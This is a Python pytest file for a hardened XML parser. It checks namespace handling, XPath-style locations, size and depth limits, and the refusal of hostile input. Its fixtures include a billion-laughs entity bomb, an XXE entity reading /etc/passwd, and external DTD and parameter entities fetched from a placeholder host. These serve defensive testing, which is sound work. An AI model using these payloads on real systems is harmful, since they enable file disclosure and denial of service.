"""The safe XML layer: encodings, locations, and hostile documents refused with a clear problem."""

from __future__ import annotations

import contextlib
import time
from pathlib import Path

import pytest

from harness.readers.errors import Unreadable
from harness.readers.xmlsafe import parse_xml, size_text

from .conftest import snapshot

P = Path("doc.xml")

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<ServiceDefinition name="&lol9;" />
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ServiceDefinition name="&xxe;" />
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ServiceDefinition SYSTEM "http://example.invalid/evil.dtd">
<ServiceDefinition />
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [ <!ENTITY % p SYSTEM "http://example.invalid/p.dtd"> %p; ]>
<d />
"""


def test_namespace_stripped_and_remembered() -> None:
    doc = parse_xml(b'<a xmlns="urn:x" xmlns:q="urn:q"><q:b q:name="n" /><c/></a>', P)
    assert doc.namespace == "urn:x"
    assert [c.tag for c in doc.root.children] == ["b", "c"]
    assert doc.root.children[0].attrib == {"name": "n"}
    assert doc.root.children[0].namespace == "urn:q"


def test_locations_use_name_then_index() -> None:
    doc = parse_xml(b"<r><e name='x'/><e/><e/><f/><g name=\"it's\"/><g name='a&quot;b&apos;c'/></r>", P)
    assert [c.location for c in doc.root.children] == [
        "/r/e[@name='x']",
        "/r/e[2]",
        "/r/e[3]",
        "/r/f",
        '/r/g[@name="it\'s"]',
        "/r/g[2]",  # both quote kinds in the name: XPath 1.0 cannot quote it, so an index
    ]


def test_location_prefix() -> None:
    doc = parse_xml(b"<r><e/></r>", P, location_prefix="part.csdx!x.csdef!")
    assert doc.root.children[0].location == "part.csdx!x.csdef!/r/e"


def test_line_numbers_with_crlf() -> None:
    doc = parse_xml(b"<r>\r\n  <a/>\r\n\r\n  <b/>\r\n</r>", P)
    assert [c.line for c in doc.root.children] == [2, 4]


def test_text_kept() -> None:
    doc = parse_xml(b"<r><v>1.7.30602</v></r>", P)
    assert doc.root.find("v").text == "1.7.30602"


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (BILLION_LAUGHS, "DTDs are not allowed"),
        (EXTERNAL_ENTITY, "DTDs are not allowed"),
        (EXTERNAL_DTD, "DTDs are not allowed"),
        (PARAMETER_ENTITY, "DTDs are not allowed"),
        (b"<r>&undefined;</r>", "undefined entity"),
        (b"<r><a></r>", "not well-formed XML at line 1, column 9: mismatched tag"),
        (b"<r>\n<a>\n</r>", "not well-formed XML at line 3, column 3: mismatched tag"),
        (b"<r>", "no element found"),
        (b"   \n", "file is empty"),
        (b"just text", "not well-formed"),
        (b"<r/><r/>", "junk after document element"),
        (b"\xff\xfe<\x00r\x00", "not well-formed"),
        (b"\xef\xbb\xbf<r>\xff</r>", "not valid UTF-8 text"),
        (b"\xff\xfe\x00\xd8<\x00", "not valid UTF-16-LE text"),
    ],
)
def test_refused_with_a_clear_problem(data: bytes, problem: str) -> None:
    with pytest.raises(Unreadable) as info:
        parse_xml(data, P)
    assert problem in info.value.problem
    assert info.value.path == P


def test_billion_laughs_is_fast_and_bounded() -> None:
    start = time.perf_counter()
    with pytest.raises(Unreadable, match="DTD"):
        parse_xml(BILLION_LAUGHS, P)
    assert time.perf_counter() - start < 1.0


def test_external_entity_never_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET")
    data = f'<!DOCTYPE r [<!ENTITY x SYSTEM "{secret.as_uri()}">]><r>&x;</r>'.encode()
    with pytest.raises(Unreadable) as info:
        parse_xml(data, P)
    assert "TOPSECRET" not in str(info.value)


def test_deep_nesting_refused() -> None:
    depth = 100_000
    data = b"<a>" * depth + b"</a>" * depth
    start = time.perf_counter()
    with pytest.raises(Unreadable, match=r"nested more than 64 deep"):
        parse_xml(data, P)
    assert time.perf_counter() - start < 2.0


def test_element_count_cap() -> None:
    data = b"<r>" + b"<e/>" * 1001 + b"</r>"
    with pytest.raises(Unreadable, match=r"more than 1000 elements"):
        parse_xml(data, P, max_elements=1000)


def test_size_cap_checked_before_parsing() -> None:
    data = b"<r>" + b" " * (9 * 1024 * 1024) + b"</r>"
    with pytest.raises(Unreadable, match=r"file is 9.0 MiB, over the 8 MiB limit for a service-model file"):
        parse_xml(data, P)
    with pytest.raises(Unreadable, match=r"over the 1 KiB limit for a package manifest"):
        parse_xml(b"<r>" + b" " * 2000 + b"</r>", P, max_bytes=1024, what="package manifest")


def test_parsing_writes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    before = snapshot(tmp_path)
    for data in (BILLION_LAUGHS, EXTERNAL_ENTITY, b"<r/>"):
        with contextlib.suppress(Unreadable):
            parse_xml(data, P)
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize(
    ("size", "text"),
    [(12, "12 bytes"), (2048, "2 KiB"), (8 * 2**20, "8 MiB"), (int(8.5 * 2**20), "8.5 MiB"), (3 * 2**30, "3 GiB")],
)
def test_size_text(size: int, text: str) -> None:
    assert size_text(size) == text


def test_duplicate_keyed_siblings_get_distinct_locations():
    from harness.readers.xmlsafe import parse_xml

    doc = parse_xml(b'<R><E name="a"/><E name="a"/><Import moduleName="M"/><Import moduleName="N"/></R>', "x.xml")
    locations = [c.location for c in doc.root.children]
    assert locations == [
        "/R/E[@name='a']",
        "/R/E[@name='a'][2]",
        "/R/Import[@moduleName='M']",
        "/R/Import[@moduleName='N']",
    ]
